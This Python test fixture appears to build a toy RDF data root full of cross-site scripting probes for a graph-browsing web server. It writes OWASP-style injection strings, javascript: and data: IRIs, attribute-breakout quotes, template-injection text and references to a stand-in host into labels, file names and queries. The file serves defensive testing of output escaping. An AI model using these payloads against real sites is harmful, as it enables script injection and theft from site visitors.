"""Texts and IRIs that would run in a careless page in, a root out that is full of them.

Every text tries to call `alert`, to fetch something from elsewhere, or to become an element that no page
uses; so whatever one of them achieves is seen. Sources: the OWASP filter evasion list, HTML's parsing rules
for `script` data (section 13.2.5.15), and the places where these pages put data.
"""

from __future__ import annotations

import shutil
from pathlib import Path

from conftest import ROOTS

ELSEWHERE = "elsewhere.example"
TEXTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//elsewhere.example/2.js></sCrIpT>",
    "</script><script>alert(3)</script>",
    "<!--<script>alert(4)",
    "--><script>alert(5)</script>",
    "]]><script>alert(6)</script>",
    "</title><script>alert(7)</script>",
    "</textarea><script>alert(8)</script>",
    "</style><script>alert(9)</script>",
    "</noscript><img src=x onerror=alert(10)>",
    "</template><img src=x onerror=alert(11)>",
    "</svg><script>alert(12)</script>",
    "</bdi></h1></main><script>alert(13)</script>",
    "<img src=x onerror=alert(14)>",
    "<img/src='x'/onerror='alert`15`'>",
    "<svg onload=alert(16)>",
    "<svg><script>alert(17)</script></svg>",
    "<svg><animate onbegin=alert(18) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(19)></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(20)>#x'>",
    "<svg><a xlink:href='javascript:alert(21)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(22)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(23)>",
    "<iframe srcdoc='<script>alert(24)</script>'>",
    "<iframe src=javascript:alert(25)>",
    "<details open ontoggle=alert(26)>",
    "<body onload=alert(27)>",
    "<input autofocus onfocus=alert(28)>",
    "<video><source onerror=alert(29)></video>",
    "<audio src onerror=alert(30)>",
    "<marquee onstart=alert(31)>",
    "<object data='data:text/html,<script>alert(32)</script>'>",
    "<embed src='data:text/html,<script>alert(33)</script>'>",
    "<a href='javascript:alert(34)'>here</a>",
    "<a href='&#106;avascript:alert(35)'>here</a>",
    "<base href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/36'>",
    "<link rel=stylesheet href=https://elsewhere.example/37.css>",
    "<style>@import 'https://elsewhere.example/38.css';*{display:none}</style>",
    "<img src=https://elsewhere.example/39.png>",
    "<form action=https://elsewhere.example/40><button formaction=javascript:alert(40)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(41)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(42)>'>",
    "<plaintext>",
    '" onmouseover="alert(43)" autofocus onfocus="alert(44)" x="',
    "' onmouseover='alert(45)' autofocus onfocus='alert(46)' x='",
    '"><svg/onload=alert(47)>',
    "'><svg/onload=alert(48)>",
    "` onfocus=alert(49) autofocus `",
    "`${alert(50)}`",
    "${alert(51)}",
    "{{constructor.constructor('alert(52)')()}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "<%= 7*7 %> #{7*7}",
    '";alert(53);//',
    "';alert(54);//",
    '\\";alert(55);//',
    "\u2028alert(56)//",
    "\u2029alert(57)//",
    "javascript:alert(58)",
    "jav\tascript:alert(59)",
    "[here](javascript:alert(60)) ![x](https://elsewhere.example/60.png)",
    "%3Cscript%3Ealert(61)%3C/script%3E",
    "&lt;script&gt;alert(62)&lt;/script&gt;",
    "&#60;script&#62;alert(63)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(64)\\x3c/script\\x3e \\u003cscript\\u003e",
    "expression(alert(65)); background:url(https://elsewhere.example/65.png)",
    "\u202e<script>alert(66)</script>\u202c",
    "\ufeff<script>alert(67)</script>",
    "\uff1cscript\uff1ealert(68)\uff1c/script\uff1e",
    "__proto__ constructor toString",
)
SAFE_BASE = "https://example.org/plant/"
# Each is an IRI (RFC 3987), so each can stand in a graph.
IRIS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(2)",
    "vbscript:alert(3)",
    "data:text/html,alert(4)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==",
    "blob:https://elsewhere.example/6",
    "file:///etc/passwd",
    "view-source:https://elsewhere.example/",
    "filesystem:https://elsewhere.example/7",
    "about:blank",
    "x-unknown:alert(8)",
    "https://example.org/'onclick='alert(9)",
    "https://example.org/%22%3E%3Cscript%3Ealert(10)%3C/script%3E",
    "https://example.org/&quot;onclick=alert(11)",
    "https://example.org/?q=%27%22&lt;script&gt;#'onclick=alert(12)",
    "urn:x:'onclick='alert(13)",
    "mailto:x@example.org?body='onclick='alert(14)",
)
# Of the root's own, so that pages of this server answer for them.
OWN = (
    "id/'onclick='alert(1)",
    "id/%22%3E%3Cscript%3Ealert(2)%3C%2Fscript%3E",
    "id/javascript:alert(3)",
    "id//elsewhere.example/4",
    "id/a?b='onclick=alert(5)",
    "id/a/../../..//elsewhere.example/6",
    "id/constructor",
    "id/__proto__",
    "id/(alert(7))",
)
_HEAD = """\
@prefix plant: <https://example.org/plant/ontology/> .
@prefix id: <https://example.org/plant/id/> .
@prefix srv: <https://w3id.org/calcigraph/server#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
"""
_PREFIX = '[ sh:prefix "constructor" ; sh:namespace "https://example.org/plant/constructor/" ]'
_LONGEST = 110
# What of a text stands in the way of what comes after it in the same label.
_SWALLOWING = ("<!--", "<plaintext>", "<xmp", "<noscript", "\u202e", "jav\t")
QUESTION = "what-does-harm"


def labels() -> list[str]:
    """The texts, some to a label: short enough to be shown whole in a title."""
    found: list[str] = []
    for text in TEXTS:
        alone = text.startswith(_SWALLOWING) or (found and found[-1].startswith(_SWALLOWING))
        if found and not alone and len(found[-1]) + len(text) < _LONGEST:
            found[-1] += f" {text}"
        else:
            found.append(text)
    return found


def quoted(text: str) -> str:
    """A text as a string of Turtle and of SPARQL."""
    escapes = {"\\": "\\\\", '"': '\\"', "\n": "\\n", "\r": "\\r", "\t": "\\t"}
    return '"' + "".join(escapes.get(letter, letter) for letter in text) + '"'


def write(folder: Path) -> Path:
    """The toy root with harm in every place that a page shows something of."""
    shutil.copytree(ROOTS["toy"], folder)
    (folder / "data" / "harm.ttl").write_text(_HEAD + _things() + _evidence(), encoding="utf-8")
    (folder / "ontology" / "harm.ttl").write_text(_HEAD + _terms(), encoding="utf-8")
    (folder / "shapes" / "harm.ttl").write_text(_HEAD + _shapes(), encoding="utf-8")
    (folder / "data" / "'onclick='alert(1).ttl").write_text(
        f"{_HEAD}id:filed rdfs:comment {quoted(TEXTS[0])} .\n", encoding="utf-8"
    )
    _edit(
        folder / "data" / "catalog.ttl",
        ('"A waterworks in miniature"', quoted(f"Harm {TEXTS[0]} {TEXTS[6]}")),
        ('"Two pumps, two tanks, a valve, and a quarrel about one pipe."', quoted(TEXTS[13] + TEXTS[2])),
        ('"An invention for tests; no plant was built."', quoted(TEXTS[44] + TEXTS[15])),
        (
            "<https://creativecommons.org/licenses/by/4.0/>",
            "<javascript:alert(1)> , <https://x.example/'onclick=alert(2)>",
        ),
        ("question-what-reaches-the-high-tank", f"question-{QUESTION}"),
    )
    _edit(
        folder / "ontology" / "prefixes.ttl",
        ("  sh:declare\n", f"  sh:declare {_PREFIX} ,\n"),
    )
    _edit(
        folder / "ontology" / "rules" / "accepted-connections.rq",
        ("#+ rule: A connection", f"#+ rule: {TEXTS[0]} {TEXTS[44]} A connection"),
    )
    (folder / "ontology" / "questions" / f"{QUESTION}.rq").write_text(_question(), encoding="utf-8")
    (folder / "ontology" / "questions" / f"{QUESTION}.csv").write_text("thing,label\n", encoding="utf-8")
    return folder


def _edit(path: Path, *changes: tuple[str, str]) -> None:
    text = path.read_text(encoding="utf-8")
    for old, new in changes:
        assert old in text, (path.name, old)
        text = text.replace(old, new)
    path.write_text(text, encoding="utf-8")


def _question() -> str:
    return (
        f"#+ question: What does {TEXTS[0]} {TEXTS[44]} {TEXTS[46]} do?\n"
        f"#+ note: {TEXTS[13]} {TEXTS[2]} {TEXTS[61]}\n"
        "#+ needs: inference\n"
        "PREFIX plant: <https://example.org/plant/ontology/>\nPREFIX id: <https://example.org/plant/id/>\n"
        "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\n"
        "SELECT ?thing ?label ?said\n"
        "WHERE { ?thing plant:reaches id:pump-1 ; rdfs:label ?label . "
        f"BIND({quoted(TEXTS[2])} AS ?said) }}\n"
        "ORDER BY ?thing\n"
    )


def _things() -> str:
    said: list[str] = []
    for number, label in enumerate(labels()):
        said.append(
            f"id:harm-{number} a plant:Harm , plant:Device ; "
            f"rdfs:label {quoted(f'harm {number} {label}')}@en ; "
            f"skos:altLabel {quoted(f'alias {label}')}@en ; dcterms:description {quoted(label)}@en ; "
            f"plant:harmful {quoted(label)} ; plant:feeds id:pump-1 ; plant:blocks id:gate-{number // 12} .\n"
        )
    said += [f"id:gate-{n} a plant:Device ; rdfs:label {quoted(TEXTS[n])}@en .\n" for n in range(9)]
    values = " , ".join(
        [
            *map(quoted, TEXTS),
            *(f"{quoted(text)}^^<{iri}>" for text, iri in zip(TEXTS, IRIS, strict=False)),
            f"{quoted(TEXTS[0])}@x-onload-alert-1 , {quoted(TEXTS[13])}@ar",
        ]
    )
    said.append(f'id:bag a plant:Harm ; rdfs:label "bag"@en ; plant:harmful {values} .\n')
    own = [SAFE_BASE + name for name in OWN]
    for iri in (*IRIS, *own):
        said.append(
            f"<{iri}> a plant:Device ; rdfs:label {quoted(f'{TEXTS[0]} of {iri}')} ; "
            "plant:blocks id:links .\n"
        )
        said.append(f"id:links dcterms:source <{iri}> ; plant:feeds <{iri}> ; <{iri}> <{iri}> .\n")
    said.append(
        f"id:gone a <https://www.w3.org/ns/activitystreams#Tombstone> ; rdfs:label {quoted(TEXTS[0])}@en ; "
        f"dcterms:description {quoted(TEXTS[13])} ; dcterms:isReplacedBy <javascript:alert(1)> , id:bag .\n"
        "<javascript:alert(1)> dcterms:isReplacedBy <data:text/html,alert(2)> .\n"
    )
    said.append('id:links a plant:Harm ; rdfs:label "links"@en .\n')
    nested = " ; ".join(f"plant:harmful {quoted(text)}" for text in TEXTS[:20])
    members = " ".join(quoted(text) for text in TEXTS[20:40])
    said.append(
        f'id:nested a plant:Harm ; rdfs:label "nested"@en ; plant:rating [ {nested} ] , ( {members} ) .\n'
    )
    return "".join(said)


def _evidence() -> str:
    a, b, c, d = (quoted(" ".join(TEXTS[n : n + 3])) for n in (0, 13, 44, 52))
    return f"""\
id:p-harm a srv:Proposition ; rdfs:label {a}@en ; srv:subject id:pump-2 ; srv:relation plant:feeds ;
  srv:object id:harm-3 ; srv:context id:gate-1 , <javascript:alert(3)> ; srv:contested true .
id:p-harm-if a srv:Proposition ; rdfs:label {b}@en ; srv:subject id:pump-2 ; srv:relation plant:feeds ;
  srv:object id:harm-4 ; srv:condition {a} , {c} .
id:decision-harm a srv:Acceptance ; rdfs:label {c}@en ; srv:decides id:p-harm ; srv:verdict srv:accepted ;
  srv:reason {a} , {c} ; srv:basis <javascript:alert(7)> , id:e-harm .
id:line-harm a srv:EvidenceLine ; rdfs:label {d}@en ; srv:proposition id:p-harm ; srv:stance id:stance-harm ;
  srv:grade id:grade-harm ; srv:evidence id:e-harm .
id:line-for a srv:EvidenceLine ; srv:proposition id:p-harm ; srv:stance srv:supports ;
  srv:evidence id:e-harm .
id:line-against a srv:EvidenceLine ; srv:proposition id:p-harm ; srv:stance srv:refutes ;
  srv:evidence id:e-harm .
id:stance-harm rdfs:label {b}@en .
id:grade-harm rdfs:label {d}@en .
id:e-harm a plant:Inspection ; rdfs:label {a}@en ; dcterms:identifier {c} ; plant:inspectedBy {b} ;
  srv:value 1.0 ; srv:low 0.5 ; srv:high 2.0 ; srv:unit {c} ; srv:measure {a} ; srv:source id:s-harm ;
  srv:amount [ srv:low 1 ; srv:high 2 ; srv:unit {a} ] .
id:s-harm a srv:Source ; rdfs:label {d}@en ; srv:retracted true ;
  srv:partOf <data:text/html,alert(15)> , id:gate-2 .
"""


def _terms() -> str:
    a, b, c = (quoted(" ".join(TEXTS[n : n + 3])) for n in (0, 13, 44))
    return f"""\
plant:Harm a owl:Class ; rdfs:subClassOf plant:Device ; rdfs:label {a}@en ; skos:definition {b}@en ;
  skos:scopeNote {c}@en ; skos:example {a} ; owl:deprecated true ;
  dcterms:isReplacedBy <javascript:alert(1)> , plant:Pump .
plant:harmful a owl:DatatypeProperty ; rdfs:label {b}@en ; skos:definition {a}@en ; srv:sign {c} .
"""


def _shapes() -> str:
    a, b = (quoted(" ".join(TEXTS[n : n + 3])) for n in (0, 44))
    return f"""\
plant:harmGroup a sh:PropertyGroup ; rdfs:label {a}@en ; sh:order 0 .
plant:HarmShape a sh:NodeShape ; sh:targetClass plant:Harm ; sh:property [
  sh:path plant:harmful ; sh:name {b}@en ; sh:description {a}@en ; sh:message {a}@en ; sh:order 1 ;
  sh:group plant:harmGroup ] .
"""
